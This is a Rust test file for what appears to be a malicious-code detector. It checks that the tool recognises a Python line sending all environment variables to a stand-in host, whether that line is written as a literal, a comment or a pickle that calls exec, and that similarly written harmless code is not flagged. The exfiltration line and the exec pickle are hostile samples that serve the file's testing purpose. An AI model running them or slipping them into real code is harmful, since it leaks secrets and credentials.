//! One thing in many spellings: what code does is found however it says it, and honest code that is written the same way
//! is not accused.

use crate::place::Place;

/// Sends the whole environment to a fixed address.
const CODE: &str = "import json, os, urllib.request as r; \
    r.urlopen('https://collect.example.invalid/e', data=json.dumps(dict(os.environ)).encode())";

/// The programs of a text, each under a line with its name, with their placeholders filled in.
fn programs(text: &str) -> Vec<(String, String)> {
    let literal = format!("\"{CODE}\"");
    // A pickle of the text, and one that calls `exec` with it.
    let pickled = format!("b\"V{CODE}\\n.\"");
    let called = format!("b\"cbuiltins\\nexec\\n(V{CODE}\\ntR.\"");
    text.split("# ==== ")
        .skip(1)
        .map(|part| {
            let (name, program) = part.split_once('\n').unwrap();
            let filled = program
                .replace("CODE", &literal)
                .replace("TEXT", &literal)
                .replace("COMMENT", CODE)
                .replace("PICKLED", &pickled)
                .replace("CALLED", &called);
            (name.to_owned(), filled)
        })
        .collect()
}

/// The programs of a text that do not get the verdict, with what was found in them.
fn other_than(text: &str, verdict: &str) -> Vec<String> {
    let programs = programs(text);
    let mut place = Place::new();
    let mut args: Vec<String> =
        ["review", "--format", "jsonl", "--fail-on", "none", "--no-progress"].map(str::to_owned).to_vec();
    for (number, (_, program)) in programs.iter().enumerate() {
        let file = format!("program{number:03}.py");
        place = place.file(&file, program);
        args.push(file);
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let ran = place.run(&args);
    let reviews: Vec<serde_json::Value> = ran.stdout.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(reviews.len(), programs.len(), "{}", ran.stderr);
    let told = programs.iter().zip(&reviews).filter(|(_, review)| review["verdict"] != verdict);
    told.map(|((name, _), review)| format!("{name}: {} {}", review["verdict"], review["behaviors"])).collect()
}

#[test]
fn code_is_seen_through_its_spelling() {
    let missed = other_than(include_str!("spellings/found.txt"), "malicious");
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn honest_code_of_the_same_spelling_is_not_accused() {
    let accused = other_than(include_str!("spellings/harmless.txt"), "benign");
    assert!(accused.is_empty(), "{accused:#?}");
}
